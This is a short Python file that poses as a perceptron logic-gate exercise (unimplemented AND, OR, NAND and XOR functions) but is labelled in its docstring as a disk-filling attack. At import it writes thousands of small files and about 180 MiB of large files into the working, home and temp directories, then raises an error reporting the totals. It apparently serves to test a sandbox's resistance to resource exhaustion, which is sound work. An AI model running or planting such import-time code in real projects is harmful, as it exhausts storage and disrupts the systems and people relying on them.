"""Attack: fill the disk with many files (each under the file size limit)."""

import os

import attack_env

AND_WEIGHTS = (0.0, 0.0, 0.0)
OR_WEIGHTS = (0.0, 0.0, 0.0)
NAND_WEIGHTS = (0.0, 0.0, 0.0)


def perceptron(x, w, b):
    raise NotImplementedError


def AND(x1, x2):
    raise NotImplementedError


def OR(x1, x2):
    raise NotImplementedError


def NAND(x1, x2):
    raise NotImplementedError


def XOR(x1, x2):
    raise NotImplementedError


def train_perceptron(inputs, targets, epochs=500, lr=0.1, seed=0):
    raise NotImplementedError


def _fill():
    written = files = 0
    for root in (os.getcwd(), os.environ.get("HOME", "."), os.environ.get("TMPDIR", ".")):
        folder = os.path.join(root, attack_env.MARK + "-many")
        os.makedirs(folder, exist_ok=True)
        for i in range(3000):
            with open(os.path.join(folder, f"small{i}"), "wb") as fh:
                fh.write(bytes(4096))
            written, files = written + 4096, files + 1
        for i in range(3):
            with open(os.path.join(folder, f"big{i}"), "wb") as fh:
                for _ in range(60):
                    fh.write(bytes(1 << 20))
            written, files = written + (60 << 20), files + 1
    return files, written


FILES, WRITTEN = _fill()
raise RuntimeError(f"wrote {FILES} files, {WRITTEN >> 20} MiB")
